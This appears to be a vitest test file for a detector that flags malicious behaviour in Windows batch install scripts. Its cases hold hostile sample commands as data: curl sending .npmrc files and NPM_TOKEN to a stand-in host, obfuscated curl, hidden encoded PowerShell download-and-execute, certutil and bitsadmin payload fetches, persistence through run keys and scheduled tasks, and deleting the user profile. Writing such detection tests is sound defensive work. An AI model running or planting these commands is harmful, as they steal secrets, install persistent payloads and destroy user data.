import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { inspectScript } from './inspect-script.ts'

const found = (text: string): readonly string[] =>
  inspectScript(text, 'batch', { path: 'setup.bat', role: 'install' }, DEFAULT_LIMITS).map(
    ({ kind, subject, inputs }) =>
      [`${kind} ${subject}`, ...inputs.map(({ source, subject: of }) => `< ${source}:${of}`).toSorted()].join(' '),
  )

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

describe('what a batch file does', () => {
  const cases: readonly (readonly [script: string, found: readonly string[]])[] = [
    ['@echo off\r\ncurl -d @"%USERPROFILE%\\.npmrc" https://collect.example', ['network collect.example < secret-file:.npmrc']],
    ['curl -H "A: %NPM_TOKEN%" https://collect.example', ['read-environment NPM_TOKEN', 'network collect.example < environment:NPM_TOKEN']],
    ['curl https://collect.example/%USERNAME%/%COMPUTERNAME%', ['network collect.example < host-facts:COMPUTERNAME < host-facts:USERNAME']],
    ['c^u^r^l https://collect.example', ['network collect.example', 'obfuscation hidden-name']],
    ['set a=cu\nset b=rl\n%a%%b% https://collect.example', ['network collect.example']],
    ['set x=lrucabc\n%x:~3,1%%x:~2,1%%x:~1,1%%x:~0,1% https://collect.example', ['network collect.example', 'obfuscation hidden-name']],
    ['set x=cXXurl\n%x:XX=% https://collect.example', ['network collect.example']],
    ['%COMSPEC% /c "curl https://collect.example"', ['network collect.example']],
    [`powershell -w hidden -enc ${wide("iex (irm 'https://collect.example/a')")}`, ['hide hidden window', 'evaluate Invoke-Expression < network:collect.example']],
    ['certutil -urlcache -split -f https://collect.example/a.exe %TEMP%\\a.exe\nstart "" /min %TEMP%\\a.exe', ['write-file %TEMP%\\a.exe < network:collect.example', 'execute a < network:collect.example']],
    ['bitsadmin /transfer j https://collect.example/a.exe C:\\a.exe & C:\\a.exe', ['execute a < network:collect.example']],
    ['if exist x (\n  reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b\n)', ['persist run key']],
    ['schtasks /create /tn a /tr b /sc onlogon', ['persist scheduled task']],
    ['copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"', ['persist autostart']],
    ['for /f %%i in (\'whoami\') do curl https://collect.example/%%i', ['host-facts whoami']],
    ['mshta https://collect.example/a.hta', ['download mshta']],
    ['del "%~f0"', ['hide deletes itself']],
    ['rd /s /q %USERPROFILE%', ['destroy ~']],
    ['curl ^\nhttps://collect.example', ['network collect.example']],
  ] // prettier-ignore
  it.each(cases)('%s', (script, expected) => expect(found(script)).toEqual(expect.arrayContaining([...expected])))
})

describe('honest twins', () => {
  const cases: readonly string[] = [
    '@echo off\nsetlocal\nset SCRIPT_DIR=%~dp0\ncall "%SCRIPT_DIR%\\x.cmd" %*\nif errorlevel 1 exit /b 1',
    'rem curl https://collect.example\n:: del "%~f0"\necho done',
    'if "%1"=="" goto help\n:help\necho use ^<name^>',
    'set "PATH=%VIRTUAL_ENV%\\Scripts;%PATH%"',
    'for %%f in (*.txt) do type %%f',
    'rd /s /q build',
  ]
  it.each(cases)('%s', (script) => expect(found(script).filter((one) => !one.startsWith('execute'))).toEqual([]))
})

describe('a megabyte of nastiness', () => {
  const pieces = ['^', '%', '!', '"', '&', '|', '(', 'set a=%a%%a%\n', 'set a=%a%x\n', '%a:~0,1%', '%a:b=c%', '^\n', '> a ', 'for %%i in (', 'if 1==1 ', 'call ', '@(', 'cmd /c ', 'powershell ', 'set a=%b:c=dd%\n'] // prettier-ignore
  it.each(pieces)('%j', (piece) => {
    const start = performance.now()
    found(`set a=xyz\nset b=cccc\n${piece.repeat(Math.floor((1 << 20) / piece.length))}`)
    expect(performance.now() - start).toBeLessThan(8000)
  })
})
